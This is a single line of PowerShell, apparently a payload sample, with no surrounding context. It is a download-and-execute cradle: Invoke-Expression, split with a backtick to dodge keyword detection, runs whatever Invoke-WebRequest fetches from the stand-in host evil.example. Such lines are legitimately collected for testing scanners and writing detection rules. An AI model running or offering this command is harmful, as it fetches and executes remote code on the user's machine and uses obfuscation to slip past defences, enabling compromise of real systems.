Invoke-Ex`pression (Invoke-WebRequest https://evil.example/a).Content
